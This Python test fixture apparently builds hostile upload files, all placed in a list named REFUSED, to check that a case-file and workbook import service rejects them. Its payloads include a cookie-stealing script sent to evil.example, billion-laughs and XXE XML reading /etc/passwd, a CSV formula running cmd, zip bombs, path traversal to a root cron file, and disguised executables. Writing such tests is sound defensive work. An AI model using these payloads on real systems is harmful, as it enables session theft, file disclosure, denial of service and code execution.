"""Files that harm, or may: to which address each goes, what it is named, and what is in it."""

import io
import zipfile
from collections.abc import Callable
from dataclasses import dataclass

from PIL import Image

from tests.cases.htcds.making import instance, replaced, table, zipped

FILES, BRING = "case_files", "cases_bring"
MEBIBYTE = 1024**2
# Of photos it matters only that they decode.
SMALL = (4, 4)
EXE = b"MZ\x90\x00\x03\x00\x00\x00This program cannot be run in DOS mode."
SCRIPT = b"<script>fetch('//evil.example/'+document.cookie)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
OLD_OFFICE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512)
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9))
    + b"]><x>&j;</x>"
)
OUTSIDE = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
MACROS, OTHER_FILES = "xl/vbaProject.bin", "xl/externalLinks/externalLink1.xml"
FORMULAS = b"prs_FirstName\r\n=cmd|' /C calc'!A0\r\n"
DEEP = b"<a>" * 5000 + b"</a>" * 5000
WIDE = b"<data>" + b"<a/>" * 30_000 + b"</data>"
SHEET = "xl/worksheets/sheet1.xml"
GOOD = table(("prs_FirstName",), ("Rosa",))
FAR = (
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
    b"</sheetData></worksheet>"
)


def changed(name: str, content: bytes) -> Callable[[], bytes]:
    """A good workbook with another member, or one that is not its own."""
    return lambda: replaced(GOOD, {name: content})


def noise() -> bytes:
    """Something that begins as a zip does."""
    return b"PK\x03\x04" + bytes(range(256)) * 9


def thousands() -> bytes:
    """A zip of many members."""
    return zipped({f"{n}.xml": b"" for n in range(10_001)}, zipfile.ZIP_STORED)


def nested() -> bytes:
    """A zip in a zip."""
    return zipped({"a.zip": zipped({"a.xml": b"<a/>"})})


def elsewhere() -> bytes:
    """A zip whose members would be written outside of where it is unpacked."""
    return zipped({"../../../etc/cron.d/a": b"x", "C:\\a": b"x"})


@dataclass(frozen=True)
class Hostile:
    """One file. `make` builds it when it is sent, since some are large."""

    id: str
    to: str
    name: str
    make: Callable[[], bytes]


def photo(encoding: str, size: tuple[int, int] = SMALL) -> bytes:
    """A photo that can be decoded."""
    made = io.BytesIO()
    Image.new("RGB", size, "red").save(made, encoding)
    return made.getvalue()


def huge_png() -> bytes:
    """A few bytes that say of themselves that they are billions of pixels."""
    small = photo("PNG")
    return small[:16] + (60_000).to_bytes(4) * 2 + small[24:]


def bomb() -> bytes:
    """A zip that unpacks to far more than its size."""
    return zipped({f"{n}.xml": bytes(33 * MEBIBYTE) for n in range(4)})


def lying() -> bytes:
    """A zip whose directory says that its member is small."""
    data = bytearray(zipped({"a.xml": bytes(2 * MEBIBYTE)}))
    at = data.rindex(b"PK\x01\x02") + 24
    data[at : at + 4] = (10).to_bytes(4, "little")
    return bytes(data)


def twice() -> bytes:
    """A zip with two members of one name, of which different readers see different ones."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr("a.xml", instance({"prs_FirstName": "Rosa"}))
        archive.writestr("A.xml", instance({"prs_FirstName": "Luz"}))
    return made.getvalue()


def locked() -> bytes:
    """A zip that says that it is encrypted."""
    data = bytearray(zipped({"a.xml": instance({"prs_FirstName": "Rosa"})}))
    data[data.rindex(b"PK\x01\x02") + 8] |= 1
    return bytes(data)


def _row(to: str, name: str, what: str, made: bytes | Callable[[], bytes]) -> Hostile:
    return Hostile(f"{to} {what}", to, name, made if callable(made) else lambda: made)


TO_A_CASE = [
    _row(FILES, "a.pdf", "nothing in it", b""),
    _row(FILES, "a.pdf", "larger than is taken", lambda: b"%PDF-1.7 " + bytes(MEBIBYTE)),
    _row(FILES, "a.pdf", "a program called PDF", EXE),
    _row(FILES, "a.jpg", "a program called a photo", EXE),
    _row(FILES, "a.txt", "a program called text", EXE),
    _row(FILES, "a.svg", "a drawing with a script", SVG),
    _row(FILES, "a.png", "a drawing called a photo", SVG),
    _row(FILES, "a.html", "a page with a script", SCRIPT),
    _row(FILES, "a.pdf", "a page called PDF", SCRIPT),
    _row(FILES, "a.gif", "a photo that is a script as well", b"GIF89a/*" + SCRIPT + b"*/=1;"),
    _row(FILES, "a.png", "a photo of billions of pixels", huge_png),
    _row(FILES, "a.jpg", "half a photo", lambda: photo("JPEG", (400, 400))[:700]),
    _row(FILES, "a.zip", "an archive", lambda: zipped({"a": b"b"})),
    _row(FILES, "a.xlsm", "a workbook with macros", changed(MACROS, b"x")),
    _row(FILES, "a.doc", "an old document", OLD_OFFICE),
    _row(FILES, "../../../etc/cron.d/a", "a name that leads elsewhere", b"* * * * * root sh"),
    _row(FILES, "a\u202egpj.exe", "a name that reads backwards", EXE),
    _row(FILES, "a\x1b[2J\x07\u0000.exe", "a name with control characters", EXE),
    _row(FILES, "a" * 500 + ".exe", "a name without an end", EXE),
    _row(FILES, '"><img src=x onerror=alert(1)>.exe', "a name that is a page", EXE),
    _row(FILES, "a.json", "JSON without an end", b"[" * 200_000),
]  # fmt: skip
TO_BRING = [
    _row(BRING, "a.xlsx", "nothing in it", b""),
    _row(BRING, "a.xlsx", "larger than is taken", lambda: b"PK\x03\x04" + bytes(16 * MEBIBYTE)),
    _row(BRING, "a.xlsx", "a program called a workbook", EXE),
    _row(BRING, "a.xlsx", "noise called a workbook", noise),
    _row(BRING, "a.xlsx", "half a workbook", lambda: GOOD[: len(GOOD) // 2]),
    _row(BRING, "a.xlsm", "a workbook with macros", changed(MACROS, b"x")),
    _row(BRING, "a.xlsx", "macros called XLSX", changed(MACROS.upper(), b"x")),
    _row(BRING, "a.xlsx", "values of other files", changed(OTHER_FILES, b"<x/>")),
    _row(BRING, "a.xlsx", "entities in a sheet", changed(SHEET, LAUGHS)),
    _row(BRING, "a.xlsx", "a cell that is far out", changed(SHEET, FAR)),
    _row(BRING, "a.xls", "an old workbook", OLD_OFFICE),
    _row(BRING, "a.zip", "an archive that unpacks to more", bomb),
    _row(BRING, "a.zip", "an archive that lies", lying),
    _row(BRING, "a.zip", "an archive with a name twice", twice),
    _row(BRING, "a.zip", "an archive that is locked", locked),
    _row(BRING, "a.zip", "thousands of members", thousands),
    _row(BRING, "a.zip", "an archive in an archive", nested),
    _row(BRING, "a.zip", "members that lead elsewhere", elsewhere),
    _row(BRING, "a.xml", "entities without an end", LAUGHS),
    _row(BRING, "a.xml", "an entity from outside", OUTSIDE),
    _row(BRING, "a.xml", "XML without an end", DEEP),
    _row(BRING, "a.xml", "XML that is too wide", WIDE),
    _row(BRING, "a.xml", "XML in another coding", LAUGHS.decode().encode("utf-16")),
    _row(BRING, "a.svg", "a drawing with a script", SVG[:-2] + b">"),
    _row(BRING, "a.html", "a page with a script", b"<html>" + SCRIPT + b"</html>"),
    _row(BRING, "a.json", "JSON without an end", b"[" * 200_000),
    _row(BRING, "a.csv", "formulas with commas between", FORMULAS),
    _row(BRING, "../../a\u202exslx.exe", "a name that leads elsewhere", EXE),
]  # fmt: skip
REFUSED = [*TO_A_CASE, *TO_BRING]
